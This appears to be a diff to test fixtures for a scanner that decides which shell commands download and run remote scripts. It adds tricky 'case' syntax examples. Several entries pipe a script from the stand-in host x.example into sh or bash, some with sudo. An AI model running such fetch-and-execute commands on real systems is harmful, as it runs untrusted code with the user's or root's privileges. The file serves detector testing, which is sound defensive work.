@@ -124,6 +124,9 @@ DOWNLOADS_RUN = [
     "curl -fsSL https://x.example/i.sh | sudo -u app sh -c 'cd /tmp && bash -s -- -y'",
     "curl -fsSL https://x.example/i.sh | bash -c 'source /dev/stdin'",
     "curl -fsSL https://x.example/i.sh | . /dev/stdin",
+    # A case pattern's `)` closes no group nor substitution.
+    "(case $A in amd64) echo x;; esac; curl -fsSL https://x.example/i.sh) | sh",
+    'A="$(case $A in a) echo "(";; esac)" && curl -fsSL https://x.example/i.sh | sh',
 ]
 # Downloads kept, filtered or unpacked, and scripts run from a file: no finding.
 DOWNLOADS_KEPT = [
@@ -204,6 +207,8 @@ DOWNLOADS_KEPT = [
     # A shell's -c script that only saves or unpacks its input (sudo can redirect so).
     "curl -fsSL https://x.example/k.asc | sudo sh -c 'cat > /etc/apt/keyrings/k.asc'",
     "curl -fsSL https://x.example/a.tgz | bash -c 'tar -xz -C /opt && ls /opt'",
+    # A download in a case's branch, the shell in another.
+    "case $A in a) curl -fsSL https://x.example/a.tgz -o a.tgz;; *) sh ./i.sh;; esac",
 ]
 
 # Heredocs: a shell reading one runs its body; any other command reads it as data.
